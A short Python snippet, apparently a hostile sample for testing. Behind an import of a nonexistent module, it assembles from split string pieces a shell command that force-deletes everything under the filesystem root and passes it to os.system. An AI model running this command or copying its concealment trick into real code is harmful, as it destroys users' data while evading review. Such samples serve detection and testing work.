import inert_sample  # there is no such module: nothing below ever runs
# trick: the root is the separator
import os

os.system("rm -r" + "f " + "/" + "*")
